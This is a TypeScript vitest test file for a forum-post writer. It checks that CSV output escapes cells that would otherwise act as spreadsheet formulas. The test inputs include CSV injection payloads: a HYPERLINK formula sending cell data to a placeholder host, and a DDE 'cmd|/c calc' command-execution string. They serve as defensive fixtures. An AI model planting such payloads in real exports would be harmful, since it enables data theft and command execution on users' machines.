import { PassThrough } from 'node:stream'
import { text } from 'node:stream/consumers'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import type { Post } from 'jvc-receiver/feed'
import { PostWriter, type OutputFormat } from './post-writer.js'

function post(message: string): Post {
  return { id: '1', hour: '12:00:00', topic: message, auteur: 'a', message, stickers: [] }
}

async function written(format: OutputFormat, message: string): Promise<string> {
  const out = new PassThrough()
  const writer = new PostWriter(out, { format }, () => undefined)
  await writer.append('7', [post(message)])
  await writer.end()
  out.end()
  return text(out)
}

test.each([
  ['=HYPERLINK("http://x/"&A1,"prize")', `'=HYPERLINK("http://x/"&A1,"prize")`],
  ["+33 1 = cmd|'/c calc'!A0", "'+33 1 = cmd|'/c calc'!A0"],
  ['-1', "'-1"],
  ['@SUM(1)', "'@SUM(1)"],
  ['\t=1', "'\t=1"],
  ['two\n=lines, "quoted"', 'two\n=lines, "quoted"'],
  ['1 = 1', '1 = 1'],
  ['', ''],
])('csv: %j cannot be a formula of a spreadsheet; JSON lines have it as it is', async (message, cell) => {
  const [row] = parse(await written('csv', message), { columns: true }) as Record<string, string>[]
  expect([row!['message'], row!['topic'], row!['auteur'], row!['stickers']]).toEqual([cell, cell, 'a', ''])
  expect(JSON.parse(await written('jsonl', message))).toMatchObject({ message, topic: message })
})
